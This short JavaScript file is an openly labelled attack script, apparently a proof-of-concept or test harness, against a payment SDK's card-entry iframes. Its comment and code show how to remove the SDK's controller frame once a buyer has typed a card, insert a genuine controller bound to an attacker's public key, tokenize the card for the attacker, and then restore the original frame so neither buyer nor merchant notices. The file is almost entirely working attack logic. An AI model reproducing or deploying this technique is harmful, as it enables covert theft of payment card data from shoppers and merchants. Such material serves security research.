// Attack: take over the binding of the merchant's genuine field frames. Once the buyer has typed
// a complete card, remove the SDK's own controller iframe (its window closes, so it no longer
// counts as a live binder), add a genuine controller frame for the SDK's instance configured with
// the attacker's public key, have it collect the card and make a token, then put the SDK's own
// controller iframe back (same src, same nonce) so the SDK reconnects and the merchant's payment
// still works. The buyer and the merchant see nothing.
(function () {
  window.__whenReady(function () {
    window.__attackReady = true;
    window.__whenTyped(function () {
      var sdkController = document.querySelector('iframe.payjp-controller');
      var instance = window.__frameParams(sdkController).get('instance');
      var group = window.__frameParams(document.querySelector('iframe.payjp-frame')).get('group');
      var apiBase = document.querySelector('script[data-api-base]').dataset.apiBase;
      var parent = sdkController.parentNode;
      var next = sdkController.nextSibling;
      sdkController.remove();
      var mine = window.__genuineFrame({ mode: 'controller', instance: instance },
        { config: { publicKey: 'pk_test_ffffffffffffffffffffffff', apiBase: apiBase } }, function (port) {
          var prev = port.onmessage;
          port.onmessage = function (e) {
            prev.call(this, e);
            if (e.data && e.data.t === 'result') {
              window.__skim('attacker token', e.data.result.id + ' ' + (e.data.result.card && e.data.result.card.last4));
              window.__attackerToken = e.data.result;
              mine.remove();
              parent.insertBefore(sdkController, next); // the SDK's frame comes back with its own nonce
              setTimeout(function () { window.__attackDone = true; }, 1500);
            }
          };
          setTimeout(function () { port.postMessage({ t: 'token', id: 1, group: group, options: {} }); }, 300);
        });
    });
  });
})();
